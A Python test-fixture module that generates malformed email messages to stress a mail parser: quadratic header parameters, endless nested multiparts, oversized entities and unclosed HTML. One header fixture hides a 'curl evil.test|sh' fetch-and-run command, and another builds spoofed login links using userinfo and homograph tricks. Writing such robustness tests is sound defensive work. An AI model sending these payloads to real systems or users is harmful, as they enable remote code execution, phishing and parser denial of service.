"""Messages that parsers fail at, one kind after the other: two of them begin each burst of a campaign.

A server accepts them like others. They are sent first because only the first messages of a burst get a notification of
their own, for which the program reads the source.
"""

from collections.abc import Callable

CODE = b"Your code is 482913.\r\n"
"""A code that the program may find: its notification is then shown a second time, in place."""


def unreadable(number: int, subject: str) -> bytes:
    """Return a message whose headers, charset or structure cannot be parsed cleanly."""
    return _with_head(subject, SOURCES[number % len(SOURCES)]())


def hostile_page(number: int, subject: str) -> bytes:
    """Return a message whose HTML part attacks parsers."""
    head = b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    return _with_head(subject, head + PAGES[number % len(PAGES)]() + b"\r\n")


def _with_head(subject: str, rest: bytes) -> bytes:
    return f"From: Acme <no-reply@acme.test>\r\nTo: ann@example.test\r\nSubject: {subject}\r\n".encode() + rest


def _quadratic_parameters() -> bytes:
    """The standard library needs a time for it that grows with the square of its length."""
    return b'Content-Type: text/plain; a="' + b"\r\n ".join([b";" * 900] * 10) + b"\r\n\r\n" + CODE


def _no_such_charset() -> bytes:
    body = bytes(range(128, 256)) + b"\r\n" + CODE
    return b'Content-Type: text/plain; charset="x-none\x01"\r\nContent-Transfer-Encoding: x-none\r\n\r\n' + body


def _broken_words() -> bytes:
    words = b"=?utf-8?B?////?= =?utf-8?Q?=0Acurl_evil.test|sh=0A=E2=80=AE?= =?x-none?Q?=FF=?= =?utf-8?B?"
    return b"Reply-To: " + words + b"\r\nCc: " + words + b" <,;:@@>\r\nDate: never\r\n\r\n" + CODE


def _endless_parts() -> bytes:
    """Nested multiparts without an end. Mailpit 1.30.5 needs 20 s and more for 60 of them."""
    parts = (f'Content-Type: multipart/mixed; boundary="b{depth}"\r\n\r\n--b{depth}\r\n' for depth in range(8))
    return "".join(parts).encode() + b"Content-Type: text/plain\r\n\r\n" + CODE


def _garbled_body() -> bytes:
    head = b"Content-Type: text/plain; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return head + b"=A=!*\xff" * 100 + b"\r\n" + CODE


def _strange_headers() -> bytes:
    return b"Content-Type:;;;=\r\nX-Long: " + b"a" * 20_000 + b"\r\nX-\xff\xfe: \x00\r\n\t\r\n\r\n" + CODE


def _endless_reference() -> bytes:
    """`html.unescape` raises ValueError for it."""
    return b"<p>&#" + b"9" * 5_000 + b";</p><p>" + CODE


def _unclosed() -> bytes:
    return b"<p>" + CODE + b"<a <a href='<a href=\"" * 500 + b"<!-- <![CDATA[ <script>"


def _nested() -> bytes:
    return b"<p>" + CODE + b"<div>" * 2_000


def _false_links() -> bytes:
    hosts = "https://evil.test\\@acme.test/", "https://acme.test@evil.test/", "https://\u0430cme.test/", "https://[::1/"
    links = "".join(f'<a href="{host}login?{"&#x41" * 500}">Log in</a>' for host in hosts)
    return links.encode() + b"<p>" + CODE


def _many_attributes() -> bytes:
    return b"<p " + b" ".join(b"a%d=&#" % number for number in range(5_000)) + b">" + CODE


def _ampersands() -> bytes:
    return b"&amp&lt&#x0;&#xD800;&#x202E;\x00" * 1_000 + b"<p>" + CODE


SOURCES: tuple[Callable[[], bytes], ...] = (
    _quadratic_parameters,
    _no_such_charset,
    _broken_words,
    _endless_parts,
    _garbled_body,
    _strange_headers,
)

PAGES: tuple[Callable[[], bytes], ...] = (
    _endless_reference,
    _unclosed,
    _nested,
    _false_links,
    _many_attributes,
    _ampersands,
)
